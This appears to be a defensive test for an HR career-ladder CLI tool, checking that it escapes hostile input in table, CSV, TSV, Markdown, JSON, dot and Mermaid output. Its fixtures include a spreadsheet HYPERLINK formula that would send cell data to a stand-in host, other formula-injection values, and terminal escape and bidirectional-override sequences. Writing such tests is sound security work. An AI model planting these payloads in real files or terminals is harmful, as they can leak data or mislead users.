# Output safety. Names, titles and departments carrying terminal escape
# sequences (CSI, OSC window titles, a C1 CSI, a bidirectional override) are
# shown escaped in every format: table and md as \e \u009b, csv and tsv as
# \x1b \u009b text, json as \u001b. Text cells a spreadsheet would run as a
# formula (= + - @ tab) get a leading ' in csv and tsv (OWASP CSV injection)
# while numbers and number-like text (-12.5, 0.222222222) stay as they are.
# dot and Mermaid drop the controls from labels (a family here).
sh: . "$TESTS/cli/hostile.sh"; base; printf 'id,name,role,manager,department\nE1,"=HYPERLINK(""http://x.example/?""&A1,""click"")",analyst-1,,"\033]0;pwned\007ops"\nE2,"\033[2J\033[31mBen\302\23331m",analyst-2,E1,+sales\nE3,@SUM(A1:A9),analyst-1,E1,-2+3\nE4,"\tTab Lead",analyst-1,E1,\342\200\256evil\nE5,-12.5,analyst-1,E1,ops\n' > r/people.csv; printf -- '- id: OPP-1\n  title: "Lead \\e[5mnow\\x9b \\u202Eevil"\n  role: analyst-2\n' > r/opportunities.yaml; sed -i 's/^family: data/family: "\\e]0;pwned\\a\\x9bdata\\u202E"/' r/roles/analyst-2.yaml; check; cd r; for f in table csv tsv md jsonl; do echo "== gap --all --format $f"; "$RUNGS" --as-of 2026-06-30 gap --all --format $f; done; for f in table csv json; do echo "== match E1 --format $f"; "$RUNGS" --as-of 2026-06-30 match E1 --format $f; done; for f in dot mermaid; do echo "== ladder --format $f"; "$RUNGS" ladder --format $f; done; echo "== review --org (departments)"; "$RUNGS" --as-of 2026-06-30 review --org | sed -n '/^Equity by department/,/^$/p'
exit: 0
<<<stdout
check: exit 0
== gap --all --format table
Group:            everyone (5 people)
Measured against: each person's target
As of:            2026-06-30
People:           5
Measured:         1

People
Employee  Name                                         Role       Target     Measured against  Readiness  Tier        Months  Largest gaps
E1        =HYPERLINK("http://x.example/?"&A1,"click")  analyst-1  analyst-2  analyst-2             22.2%  ready-soon       8  python, sql
E2        \e[2J\e[31mBen\u009b31m                      analyst-2  -          -                         -  -                -  -
E3        @SUM(A1:A9)                                  analyst-1  -          -                         -  -                -  -
E4        \tTab Lead                                   analyst-1  -          -                         -  -                -  -
E5        -12.5                                        analyst-1  -          -                         -  -                -  -
== gap --all --format csv
employee,name,role,target,measured,readiness,tier,months,gaps
E1,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",analyst-1,analyst-2,analyst-2,0.222222222,ready-soon,8,python;sql
E2,\x1b[2J\x1b[31mBen\u009b31m,analyst-2,,,,,,
E3,'@SUM(A1:A9),analyst-1,,,,,,
E4,'	Tab Lead,analyst-1,,,,,,
E5,-12.5,analyst-1,,,,,,
== gap --all --format tsv
employee	name	role	target	measured	readiness	tier	months	gaps
E1	'=HYPERLINK("http://x.example/?"&A1,"click")	analyst-1	analyst-2	analyst-2	0.222222222	ready-soon	8	python;sql
E2	\x1b[2J\x1b[31mBen\u009b31m	analyst-2						
E3	'@SUM(A1:A9)	analyst-1						
E4	'\tTab Lead	analyst-1						
E5	-12.5	analyst-1						
== gap --all --format md
- **Group:** everyone (5 people)
- **Measured against:** each person's target
- **As of:** 2026-06-30
- **People:** 5
- **Measured:** 1

### People

| Employee | Name | Role | Target | Measured against | Readiness | Tier | Months | Largest gaps |
|---|---|---|---|---|---:|---|---:|---|
| E1 | =HYPERLINK("http://x.example/?"&A1,"click") | analyst-1 | analyst-2 | analyst-2 | 22.2% | ready-soon | 8 | python, sql |
| E2 | \e[2J\e[31mBen\u009b31m | analyst-2 | - | - | - | - | - | - |
| E3 | @SUM(A1:A9) | analyst-1 | - | - | - | - | - | - |
| E4 | \tTab Lead | analyst-1 | - | - | - | - | - | - |
| E5 | -12.5 | analyst-1 | - | - | - | - | - | - |
== gap --all --format jsonl
{"employee":"E1","name":"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")","role":"analyst-1","target":"analyst-2","measured":"analyst-2","readiness":0.222222222,"tier":"ready-soon","months":8,"gaps":["python","sql"]}
{"employee":"E2","name":"\u001b[2J\u001b[31mBen\u009b31m","role":"analyst-2","target":null,"measured":null,"readiness":null,"tier":null,"months":null,"gaps":[]}
{"employee":"E3","name":"@SUM(A1:A9)","role":"analyst-1","target":null,"measured":null,"readiness":null,"tier":null,"months":null,"gaps":[]}
{"employee":"E4","name":"\tTab Lead","role":"analyst-1","target":null,"measured":null,"readiness":null,"tier":null,"months":null,"gaps":[]}
{"employee":"E5","name":"-12.5","role":"analyst-1","target":null,"measured":null,"readiness":null,"tier":null,"months":null,"gaps":[]}
== match E1 --format table
Employee: E1
Name:     =HYPERLINK("http://x.example/?"&A1,"click")
Target:   analyst-2
As of:    2026-06-30

Jobs
Id     Kind  Title                           Score  Readiness  Growth  Tier        Months  Helps most  Holds back
OPP-1  job   Lead \e[5mnow\u009b \u202eevil  22.2%      22.2%  100.0%  ready-soon       8  sql         python

Development
Id  Kind  Title  Score  Readiness  Growth  Tier  Months  Helps most  Holds back
(none)
== match E1 --format csv
id,kind,title,score,readiness,growth,tier,months,employee,list,helps,holds_back,role,aspired
OPP-1,job,Lead \x1b[5mnow\u009b \u202eevil,0.222222222,0.222222222,1,ready-soon,8,E1,jobs,sql,python,analyst-2,false
== match E1 --format json
{
  "employee": "E1",
  "as_of": "2026-06-30",
  "target": "analyst-2",
  "jobs": [
    {
      "id": "OPP-1",
      "kind": "job",
      "title": "Lead \u001b[5mnow\u009b \u202eevil",
      "score": 0.222222222,
      "readiness": 0.222222222,
      "growth": 1,
      "tier": "ready-soon",
      "months": 8,
      "helps": "sql",
      "holds_back": "python",
      "role": "analyst-2",
      "aspired": false
    }
  ],
  "development": [],
  "name": "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
}
== ladder --format dot
digraph rungs {
  rankdir=LR;
  node [shape=box, style=rounded];
  subgraph cluster_0 {
    label="]0;pwneddata";
    n0 [label="analyst-2\nlevel 2 · ic"];
  }
  subgraph cluster_1 {
    label="data";
    n1 [label="analyst-1\nlevel 1 · ic"];
  }
  n1 -> n0 [style=bold, label="cross-functional"];
}
== ladder --format mermaid
flowchart LR
  subgraph c0["]0;pwneddata"]
    n0["analyst-2<br/>level 2 · ic"]
  end
  subgraph c1["data"]
    n1["analyst-1<br/>level 1 · ic"]
  end
  n1 ==>|"cross-functional"| n0
== review --org (departments)
Equity by department
Group              People  Mean readiness  Ready now  Ready soon  Develop  Ready-now rate  Below 4/5
\e]0;pwned\x07ops       -               -          -           -        -               -  -
+sales                  -               -          -           -        -               -  -
-2+3                    -               -          -           -        -               -  -
ops                     -               -          -           -        -               -  -
\u202eevil              -               -          -           -        -               -  -

<<<end
